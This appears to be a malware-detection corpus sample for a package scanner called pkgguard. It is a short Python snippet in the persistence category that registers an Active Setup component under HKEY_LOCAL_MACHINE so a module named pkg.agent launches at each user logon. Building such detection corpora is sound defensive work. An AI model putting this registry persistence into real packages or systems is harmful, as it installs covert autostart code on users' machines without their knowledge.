# pkgguard corpus 584 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import sys
import winreg

guid = "{5B2A0D1E-7C44-4F1B-9E55-000000000001}"
path = rf"Software\Microsoft\Active Setup\Installed Components\{guid}"
with winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, path) as key:
    winreg.SetValueEx(key, "StubPath", 0, winreg.REG_SZ, f'"{sys.executable}" -m pkg.agent')
    winreg.SetValueEx(key, "Version", 0, winreg.REG_SZ, "1,0,0,0")
